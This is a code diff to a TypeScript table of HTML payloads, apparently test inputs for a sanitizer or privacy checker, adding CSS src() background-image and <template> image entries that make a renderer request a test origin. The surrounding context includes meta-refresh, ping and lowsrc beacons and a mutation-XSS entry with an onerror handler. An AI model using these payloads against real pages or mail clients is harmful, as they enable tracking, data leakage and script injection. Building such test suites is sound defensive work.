@@ -81,6 +81,8 @@ export const PAYLOADS: Readonly<Record<string, readonly Payload[]>> = {
     (h, o) => `<style>li{list-style:url(${o}/bullet.png?${h})}</style><ul><li>x</li></ul>`,
     (h, o) => `<p style="cursor:url(${o}/cursor.cur?${h}),auto">cursor</p>`,
     (h, o) => `<style>body{background:ur/**/l(${o}/comment.png?${h})}</style>`,
+    (h, o) => `<style>p{background-image:src("${o}/src.png?${h}")}</style>`,
+    (h, o) => `<div style="background-image:src('${o}/src2.png?${h}')">src</div>`,
   ],
   metaRefresh: [
     (h, o) => `<meta http-equiv="refresh" content="0;url=${o}/refresh?${h}">`,
@@ -120,6 +122,7 @@ export const PAYLOADS: Readonly<Record<string, readonly Payload[]>> = {
     (h, o) => `<img src="//127.0.0.1:${new URL(o).port}/protocol-relative?${h}">`,
     (h, o) => `<img lowsrc="${o}/lowsrc?${h}" dynsrc="${o}/dynsrc?${h}">`,
     (h, o) => `<a ping="${o}/ping?${h}" href="https://shop.example/">ping</a>`,
+    (h, o) => `<template><img src="${o}/template.png?${h}"></template>`,
   ],
   mutationXss: [
     (h) => `<noscript><p title="</noscript><img src=x onerror=${run(h)}>">`,
